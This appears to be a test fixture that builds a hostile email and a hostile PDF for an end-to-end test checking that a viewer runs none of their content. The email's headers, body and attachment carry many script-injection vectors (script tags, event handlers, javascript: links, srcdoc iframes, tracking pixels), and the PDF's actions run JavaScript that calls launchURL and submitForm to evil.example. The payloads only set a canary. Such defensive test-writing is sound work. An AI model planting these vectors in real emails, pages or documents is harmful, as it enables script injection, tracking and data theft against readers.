// Hand-made hostile files for test/e2e/hostile.spec.ts: an email whose HTML, headers and attachment try
// every way to run script, load remote content or navigate, and a PDF whose document, page and link
// actions try to alert, print, open a window and reach a server. Each sets a canary if anything of it runs.
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** What a payload would do if it ran: set this global or the page's title. */
export const CANARY = '__pwned';
export const CANARY_TITLE = 'pwned';

const payload = (who: string) => `window.${CANARY}='${who}';document.title='${CANARY_TITLE}'`;

const HTML_BODY = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url("https://evil.example/b.css"); body { background: url(https://evil.example/bg.png) }</style>
<script>${payload('script')}</script>
<base href="https://evil.example/">
</head><body onload="${payload('body-onload')}">
<p>Canary body: the quarterly numbers are below.</p>
<p>Opened<img src="https://tracker.example.com/pixel.gif?r=7" width="1" height="1"> by you.</p>
<img src="x" onerror="${payload('img-onerror')}">
<svg><script>${payload('svg-script')}</script><animate onbegin="${payload('svg-animate')}"/></svg>
<iframe srcdoc="<script>parent.${CANARY}='srcdoc'</script>"></iframe>
<a href="javascript:${payload('javascript-url')}">Click for details</a>
<form action="https://evil.example/collect"><input autofocus onfocus="${payload('autofocus')}" value="x"></form>
<object data="https://evil.example/x.swf"></object>
<details open ontoggle="${payload('ontoggle')}"><summary>More</summary></details>
</body></html>`;

const ATTACHMENT = `<html><head><title>Attached page</title><script>${payload('attachment-script')}</script></head>
<body onload="${payload('attachment-onload')}"><p>Attached canary page.</p><img src="https://tracker.example.com/att.gif"></body></html>`;

/** An email whose subject, sender name, HTML body and HTML attachment carry script. */
export function canaryEmail(): Uint8Array {
  const mime = `From: "<script>${payload('from')}</script>Mallory" <mallory@example.org>
To: reader@example.org
Subject: <img src=x onerror="${payload('subject')}">Canary report
Date: Wed, 15 Feb 2017 10:00:00 -0500
Message-ID: <canary@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="B"

--B
Content-Type: text/html; charset=utf-8

${HTML_BODY}
--B
Content-Type: text/html; charset=utf-8; name="attached.html"
Content-Disposition: attachment; filename="attached.html"

${ATTACHMENT}
--B--
`;
  return new TextEncoder().encode(mime.replace(/\n/g, '\r\n'));
}

/** A one-page PDF with text, whose open action, page action and link all carry JavaScript or a URL. */
export async function canaryPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  page.drawText('Canary release page: nothing in this file may run.', { x: 72, y: 700, size: 14, font });
  page.drawText('Link to the outside world', { x: 72, y: 660, size: 12, font });
  const js = (code: string) => doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const script = `app.alert('${CANARY_TITLE}'); this.print(); app.launchURL('https://evil.example/launch', true); this.submitForm('https://evil.example/form');`;
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(js(script)));
  doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: js(`app.alert('will close')`), WP: js(`app.alert('will print')`) }));
  page.node.set(PDFName.of('AA'), doc.context.obj({ O: doc.context.register(js(`app.alert('page open'); app.launchURL('https://evil.example/page')`)) }));
  const link = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [70, 655, 230, 675],
    Border: [0, 0, 0],
    A: { S: 'URI', URI: PDFString.of('https://evil.example/link') },
  });
  page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  return doc.save();
}
